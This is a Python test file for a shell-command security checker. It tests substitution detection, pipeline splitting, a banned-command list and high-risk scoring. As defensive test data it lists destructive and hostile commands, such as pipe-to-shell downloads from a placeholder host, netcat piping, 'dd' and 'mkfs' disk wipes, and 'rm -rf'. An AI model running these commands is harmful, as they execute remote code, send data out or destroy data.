import pytest

from shellgate.engine.security import (
    BANNED_COMMANDS,
    classify,
    get_command_root,
    has_command_substitution,
    is_banned_command,
    is_high_risk_command,
    split_pipeline_segments,
    validate_command,
)


def test_command_root_strips_path_and_arguments() -> None:
    assert get_command_root("ls -la") == "ls"
    assert get_command_root("  /usr/bin/git status") == "git"
    assert get_command_root("C:\\tools\\rg.exe foo") == "rg.exe"
    assert get_command_root("(cd src && make)") == "cd"
    assert get_command_root("echo hi; rm x") == "echo"


def test_command_root_missing() -> None:
    assert get_command_root("") is None
    assert get_command_root("   ") is None
    assert get_command_root("&& ls") is None


@pytest.mark.parametrize("command", [
    "echo $(whoami)",
    "echo `whoami`",
    'echo "$(whoami)"',
    'echo "`id`"',
    "ls; cat $(find . -name x)",
])
def test_substitution_detected(command: str) -> None:
    assert has_command_substitution(command)


@pytest.mark.parametrize("command", [
    "echo '$(whoami)'",
    "echo '`whoami`'",
    "echo \\$(whoami)",
    'echo "\\`id\\`"',
    "echo $HOME",
    "echo price: $5",
])
def test_substitution_not_detected(command: str) -> None:
    assert not has_command_substitution(command)


def test_single_quote_inside_double_quotes_does_not_hide_substitution() -> None:
    assert has_command_substitution("echo \"it's $(date)\"")


def test_pipeline_split_respects_quotes() -> None:
    assert split_pipeline_segments("cat a | grep b | wc -l") == ["cat a", "grep b", "wc -l"]
    assert split_pipeline_segments("echo 'a|b' | tr a z") == ["echo 'a|b'", "tr a z"]
    assert split_pipeline_segments('echo "x | y"') == ['echo "x | y"']
    assert split_pipeline_segments("a || b") == ["a", "b"]
    assert split_pipeline_segments("echo a\\|b") == ["echo a\\|b"]


def test_pipeline_risk_is_any_segment() -> None:
    assert not is_high_risk_command("cat log.txt | grep error | sort")
    assert is_high_risk_command("cat list | xargs rm -rf")
    assert is_high_risk_command("ls | sudo tee /etc/hosts")
    assert is_high_risk_command("echo ok | nc example.com 80")


def test_pipe_to_shell_is_high_risk() -> None:
    assert is_high_risk_command("curl http://x | sh")
    assert is_high_risk_command("wget -qO- http://x | bash")
    assert is_high_risk_command("CURL http://x | SH")


@pytest.mark.parametrize("command", [
    "rm -rf /tmp/build",
    "rm --recursive dir",
    "sudo apt install foo",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
    "fdisk -l",
    "format c:",
    "del /q C:\\tmp",
    "bash script.sh",
    "wget http://example.com",
])
def test_high_risk_commands(command: str) -> None:
    assert is_high_risk_command(command)


@pytest.mark.parametrize("command", [
    "ls -la",
    "git status",
    "python -m pytest",
    "echo hello",
])
def test_ordinary_commands_are_not_high_risk(command: str) -> None:
    assert not is_high_risk_command(command)


def test_quoted_risky_text_still_flags_its_segment() -> None:
    assert is_high_risk_command('echo "rm -rf /"')


def test_segment_with_substitution_is_high_risk() -> None:
    assert is_high_risk_command("echo $(id)")


def test_banned_commands_case_insensitive() -> None:
    assert is_banned_command("curl")
    assert is_banned_command("CURL")
    assert is_banned_command("Zsh")
    assert not is_banned_command("curlx")
    assert not is_banned_command(None)
    assert "source" in BANNED_COMMANDS
    assert len(BANNED_COMMANDS) == 24


def test_validate_command_messages() -> None:
    assert validate_command("") == "Command cannot be empty."
    assert validate_command("   \n") == "Command cannot be empty."
    assert validate_command("&& ls") == "Could not identify command root."
    assert validate_command("echo $(id)") == (
        "Command substitution is not allowed for security reasons."
    )
    assert validate_command("echo hello") is None
    # Validation is independent of risk scoring.
    assert validate_command("rm -rf build") is None


def test_classify_reports_every_fact() -> None:
    risk = classify("/bin/rm -rf build")
    assert risk.root_command == "rm"
    assert risk.is_banned
    assert risk.is_high_risk
    assert not risk.has_substitution

    safe = classify("ls")
    assert safe.root_command == "ls"
    assert not (safe.is_banned or safe.is_high_risk or safe.has_substitution)
